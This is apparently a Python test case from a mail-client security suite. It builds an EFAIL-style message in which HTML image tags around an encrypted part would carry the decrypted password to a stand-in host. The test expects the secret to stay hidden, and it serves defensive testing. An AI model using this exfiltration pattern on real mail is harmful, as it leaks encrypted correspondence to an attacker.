"""Mallory has a captured ciphertext and wants its text in the address of an image.

multipart/mixed: HTML that opens an image's address, the encrypted part, HTML that closes it.
"""

from case import attack
from generators import cast, mail as m

expect = attack(signature="none", encryption="partial", findings=["receive.encrypted-part-closed"],
                hides=["Rosenkohl"], unchanged=True)


def mail():
    secret = m.encrypted(cast.rita, m.text("Das Kennwort ist Rosenkohl."))
    return m.header() + m.multipart("mixed", m.html('<img src="//e/?'), secret, m.html('">'))
